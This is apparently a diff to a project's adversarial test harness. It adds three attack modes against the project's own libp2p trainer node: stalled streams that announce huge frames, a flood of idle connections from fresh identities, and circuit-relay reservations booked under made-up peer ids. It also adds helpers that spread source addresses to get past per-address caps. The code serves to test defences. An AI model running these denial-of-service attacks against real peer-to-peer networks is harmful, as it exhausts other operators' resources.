@@ -13,12 +13,23 @@ right answer, reporting that answer's exact logprobs under the current weights (
 replaced by a new one (issue 17, 6).
 ``--mode bomb``: decode bombs (8.4 MB of empty maps), slow streams that never finish their frame, and uploads
 pulled from samplers as fast as they answer (issue 17, 3, 4 and 7).
+``--mode headers``: 40 identities, each on 8 work and 8 rollout streams sending only a frame header that announces
+1 MiB (work) or the largest group (rollouts), then 100 bytes, then nothing (issue 26, 2a).
+``--mode idle``: hundreds of fresh identities that each hold one idle connection to the trainer, and open a new
+one (a fresh identity) whenever theirs is closed or refused (issue 26, 1a).
+``--mode relay``: one identity sending circuit-relay RESERVEs to the trainer naming made-up peer ids, then its own;
+a fresh identity at another address then reserves as an honest NATed peer would (issue 26, 1b).
+
+``headers`` and ``idle`` dial from the addresses ``--sources`` names (bench/netlab/sources.py: one per identity,
+spread so the trainer's per-address caps do not bind); without it every identity dials from the host's address.
 """
 
 from __future__ import annotations
 
 import argparse
 import os
+import struct
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
@@ -371,13 +382,266 @@ class Flooder:
         return {"mode": "flood", "replies": dict(self.replies), "sent": sum(self.replies.values())}
 
 
+def bind_source(host: Any, ip: str | None) -> None:
+    """Make ``host`` dial over TCP from ``ip`` (an address of this machine), any port."""
+    if ip is None:
+        return
+    for transport in host.get_network().transport_manager.get_transports():
+        dial_with_source = getattr(transport, "dial_with_source", None)
+        if dial_with_source is not None:
+
+            async def dial(maddr: Any, _dial: Any = dial_with_source) -> Any:
+                return await _dial(maddr, (ip, 0))
+
+            transport.dial = dial
+
+
+def fresh_host(ip: str | None) -> Any:
+    from libp2p.crypto.ed25519 import create_new_key_pair
+
+    from node.host import build_host
+
+    host = build_host(create_new_key_pair())
+    bind_source(host, ip)
+    return host
+
+
+def connected_to(host: Any, peer: Any) -> bool:
+    return bool(host.get_network().get_connections(peer))
+
+
+class HeaderFlooder:
+    """40 identities whose streams send a frame's header and 100 bytes, then stall (what the old budget reserved
+    on the announced length: 256 MiB held, honest throughput 14%)."""
+
+    name = "sampler"
+
+    def __init__(self, config: NodeConfig, sources: list[str], identities: int = 40, rollout_frame: int = 1 << 20):
+        self.config = config
+        self.sources = sources
+        self.identities = identities
+        self.sizes = {work.PROTOCOL_ID: work.MAX_FRAME, rollouts.PROTOCOL_ID: rollout_frame}
+        self.connected = 0
+        self.streams = 0  # stalled streams open now
+        self.sent: dict[str, int] = {}
+
+    def register(self, swarm: Swarm) -> None:
+        pass
+
+    def count(self, what: str) -> None:
+        self.sent[what] = self.sent.get(what, 0) + 1
+
+    async def run(self, swarm: Swarm) -> None:
+        target = await find_trainer(swarm, self.config)
+
+        async def identity(k: int) -> None:
+            while True:
+                host = fresh_host(self.sources[k] if k < len(self.sources) else None)
+                async with host.run([]):
+                    try:
+                        with trio.fail_after(30):
+                            await host.connect(target)
+                    except Exception:
+                        self.count("connect_failed")
+                        await trio.sleep(5)
+                        continue
+                    self.connected += 1
+                    try:
+                        async with trio.open_nursery() as streams:
+                            for protocol, size in self.sizes.items():
+                                for _ in range(8):
+                                    streams.start_soon(stall, host, protocol, size)
+                            while connected_to(host, target.peer_id):
+                                await trio.sleep(1)
+                            streams.cancel_scope.cancel()
+                    finally:
+                        self.connected -= 1
+                self.count("cut")
+
+        async def stall(host: Any, protocol: str, size: int) -> None:
+            while True:  # a stream the trainer cuts is opened again
+                opened = trio.current_time()
+                try:
+                    stream = await host.new_stream(target.peer_id, [protocol])
+                    await stream.write(struct.pack(">I", size) + b"\x00" * 100)
+                    self.count(protocol.split("/")[2])
+                    self.streams += 1
+                    try:
+                        while await stream.read(1 << 16):
+                            pass
+                    finally:
+                        self.streams -= 1
+                except Exception:
+                    self.count("stream_failed")
+                if trio.current_time() - opened < 2:
+                    await trio.sleep(5)  # refused at once: a pause, not a flood of stream opens
+
+        async with trio.open_nursery() as nursery:
+            for k in range(self.identities):
+                nursery.start_soon(identity, k)
+
+    def status(self) -> dict[str, Any]:
+        return {"mode": "headers", "connected": self.connected, "streams": self.streams, "sent": dict(self.sent)}
+
+
+class IdleHolder:
+    """Fresh identities holding idle connections: as many as ``identities``, each replaced by a new identity when
+    its connection is closed (pruned) or refused."""
+
+    name = "sampler"
+
+    def __init__(self, config: NodeConfig, sources: list[str], identities: int = 64) -> None:
+        self.config = config
+        self.sources = sources
+        self.identities = identities
+        self.held = 0
+        self.most_held = 0
+        self.made = 0
+        self.counts: dict[str, int] = {}
+
+    def register(self, swarm: Swarm) -> None:
+        pass
+
+    def count(self, what: str) -> None:
+        self.counts[what] = self.counts.get(what, 0) + 1
+
+    async def run(self, swarm: Swarm) -> None:
+        target = await find_trainer(swarm, self.config)
+
+        async def identity(k: int) -> None:
+            await trio.sleep(k * 0.05)  # ~20 handshakes a second, not 256 at once
+            while True:  # an identity tries until it holds a connection; once that is closed, a fresh one
+                host = fresh_host(self.sources[k] if k < len(self.sources) else None)
+                self.made += 1
+                async with host.run([]):
+                    while not await hold(host):
+                        self.count("refused")
+                        await trio.sleep(5)
+                self.count("closed")
+                await trio.sleep(2)
+
+        async def hold(host: Any) -> bool:
+            """Connect and hold the connection idle until the trainer closes it; False if it was refused."""
+            try:
+                with trio.fail_after(30):
+                    await host.connect(target)
+                await trio.sleep(0.5)  # a refused connection is closed right after its handshake
+            except Exception:
+                pass
+            if not connected_to(host, target.peer_id):
+                return False
+            self.count("connected")
+            self.held += 1
+            self.most_held = max(self.most_held, self.held)
+            try:
+                while connected_to(host, target.peer_id):
+                    await trio.sleep(1)
+            finally:
+                self.held -= 1
+            return True
+
+        async with trio.open_nursery() as nursery:
+            for k in range(self.identities):
+                nursery.start_soon(identity, k)
+
+    def status(self) -> dict[str, Any]:
+        return {"mode": "idle", "held": self.held, "most_held": self.most_held, "identities": self.made,
+                **self.counts}  # fmt: skip
+
+
+async def reserve(host: Any, relay: Any, claimed: Any) -> int:
+    """One circuit-relay RESERVE on its own HOP stream naming ``claimed`` (None: no peer field); the reply's status,
+    or -1 when none came."""
+    from libp2p.relay.circuit_v2.pb.circuit_pb2 import HopMessage
+    from libp2p.relay.circuit_v2.protocol import PROTOCOL_ID as HOP_PROTOCOL_ID
+    from libp2p.relay.circuit_v2.utils import read_delimited_msg, write_delimited_msg
+
+    try:
+        with trio.fail_after(20):
+            stream = await host.new_stream(relay, [HOP_PROTOCOL_ID])
+            try:
+                msg = HopMessage(type=HopMessage.RESERVE)
+                if claimed is not None:
+                    msg.peer.id = claimed.to_bytes()
+                await write_delimited_msg(stream, msg)
+                return int((await read_delimited_msg(stream, HopMessage)).status)
+            finally:
+                with suppress(Exception):
+                    await stream.close()
+    except Exception:
+        return -1
+
+
+class RelayThief:
+    """Books relay slots on the trainer under made-up peer ids (py-libp2p booked ``msg.peer.id``: one identity
+    took all 64), again every 10 s; then reserves as itself; a fresh identity at ``probe_source`` reserves too."""
+
+    name = "sampler"
+
+    def __init__(self, config: NodeConfig, probe_source: str | None, claims: int = 80) -> None:
+        self.config = config
+        self.probe_source = probe_source
+        self.claims = claims
+        self.rounds = 0
+        self.made_up: dict[str, int] = {}
+        self.own: dict[str, int] = {}
+        self.probe: dict[str, int] = {}
+
+    def register(self, swarm: Swarm) -> None:
+        pass
+
+    async def run(self, swarm: Swarm) -> None:
+        from libp2p.crypto.ed25519 import create_new_key_pair
+        from libp2p.peer.id import ID
+        from libp2p.relay.circuit_v2.protocol_buffer import StatusCode
+
+        target = await find_trainer(swarm, self.config)
+        await swarm.connect(target)
+
+        def tally(book: dict[str, int], status: int) -> None:
+            name = "none" if status < 0 else StatusCode(status).name if status in iter(StatusCode) else str(status)
+            book[name] = book.get(name, 0) + 1
+
+        async def claim(limit: trio.CapacityLimiter) -> None:
+            async with limit:
+                made_up = ID.from_pubkey(create_new_key_pair().public_key)
+                tally(self.made_up, await reserve(swarm.host, target.peer_id, made_up))
+
+        while True:
+            async with trio.open_nursery() as nursery:
+                limit = trio.CapacityLimiter(8)
+                for _ in range(self.claims):
+                    nursery.start_soon(claim, limit)
+            tally(self.own, await reserve(swarm.host, target.peer_id, None))
+            probe = fresh_host(self.probe_source)
+            async with probe.run([]):
+                try:
+                    with trio.fail_after(30):
+                        await probe.connect(target)
+                    tally(self.probe, await reserve(probe, target.peer_id, probe.get_id()))
+                except Exception:
+                    tally(self.probe, -1)
+            self.rounds += 1
+            await trio.sleep(10)
+
+    def status(self) -> dict[str, Any]:
+        return {"mode": "relay", "rounds": self.rounds, "made_up": dict(self.made_up), "own": dict(self.own),
+                "probe": dict(self.probe)}  # fmt: skip
+
+
 def main() -> None:
     p = argparse.ArgumentParser()
-    p.add_argument("--mode", choices=["corrupt", "flood", "withhold", "inject", "sybil", "bomb"], required=True)
+    p.add_argument(
+        "--mode", choices=["corrupt", "flood", "withhold", "inject", "sybil", "bomb", "headers", "idle", "relay"],
+        required=True,
+    )  # fmt: skip
     p.add_argument("--config", type=Path, required=True)
     p.add_argument("--data-dir", type=Path, required=True)
     p.add_argument("--listen", required=True)
     p.add_argument("--arm-file", type=Path, default=None, help="inject: sample nothing until this file exists")
+    p.add_argument("--sources", default="", help="headers/idle/relay: comma-separated addresses to dial from")
+    p.add_argument("--identities", type=int, default=0, help="headers (40) / idle (64): how many at once")
+    p.add_argument("--rollout-frame", type=int, default=1 << 20, help="headers: the rollout frame size announced")
     args = p.parse_args()
     setup_logging(verbose=False)
     config = NodeConfig(
@@ -415,7 +679,15 @@ def main() -> None:
             "sybil": SybilSwarm,
             "bomb": Bomber,
         }
-        role = modes[args.mode](config)
+        sources = [a for a in args.sources.split(",") if a]
+        if args.mode == "headers":
+            role = HeaderFlooder(config, sources, args.identities or 40, args.rollout_frame)
+        elif args.mode == "idle":
+            role = IdleHolder(config, sources, args.identities or 64)
+        elif args.mode == "relay":
+            role = RelayThief(config, sources[0] if sources else None)
+        else:
+            role = modes[args.mode](config)
     trio.run(run_node, config, role)
 
 
